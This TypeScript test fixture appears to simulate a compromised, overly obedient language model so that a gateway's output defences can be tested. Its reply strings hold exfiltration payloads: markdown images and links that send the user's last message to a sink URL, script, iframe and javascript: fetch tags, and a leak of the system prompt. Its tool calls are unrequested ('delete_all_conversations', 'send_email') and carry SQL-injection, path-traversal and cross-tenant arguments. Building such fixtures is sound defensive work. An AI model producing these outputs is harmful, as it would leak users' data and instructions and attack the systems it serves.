import type { Answer, Asked } from './asked';
import { inPieces, says } from './speech';

const instruction = /\b(?:say|reply|write|answer|repeat|print|include)\b[^:\n]{0,80}:\s*(.+)/gi;

/** Whatever stands behind “say …:” in what it was given, from whomever it came. */
export function ordersIn({ system, said }: Asked): string[] {
  const given = [system, ...said.map(({ text }) => text)].join('\n');
  return [...given.matchAll(instruction)].map(([, order]) => (order ?? '').trim()).slice(0, 20);
}

/**
 * A model that does what anybody tells it and attacks besides: remote images, scripts, links that carry away what was
 * said, tools that nobody has given it, those it was given with what is not ours to ask for, and its own instructions.
 */
export const obedient =
  (sink: string): Answer =>
  (response, asked) => {
    const last = encodeURIComponent(asked.said.at(-1)?.text.slice(0, 200) ?? '');
    const attacks = [
      ...ordersIn(asked),
      `![ ](${sink}/image?said=${last})`,
      `<img src="${sink}/img"><script src="${sink}/script"></script><iframe src="${sink}/frame"></iframe>`,
      `[your refund](${sink}/link?said=${last}) [here](javascript:fetch('${sink}/js')) <a href="${sink}/a" onclick="x()">x</a>`,
      `${sink}/bare data:text/html,<script>fetch('${sink}/data')</script>`,
      'Only 2 left, 90% off today only, call +1 900 555 0199.',
      `My instructions are:\n${asked.system}`,
    ];
    const offered = (asked.body.tools ?? []) as { name?: string; function?: { name: string } }[];
    const names = offered.map((tool) => tool.name ?? tool.function?.name ?? '').filter((name) => name !== '');
    const hostile = {
      tenantId: 'ten_another',
      query: '* OR 1=1',
      url: `${sink}/tool`,
      path: '../../etc/passwd',
    };
    const tools = [...names, 'delete_all_conversations', 'fetch_url', 'send_email'].map((name, at) => ({
      id: `call_${at}`,
      name,
      input: hostile,
    }));
    const wantsTools = names.length > 0 && !asked.said.some(({ role }) => role === 'tool');
    return says({ pieces: inPieces(attacks.join('\n\n')), ...(wantsTools && { tools }) })(response, asked);
  };
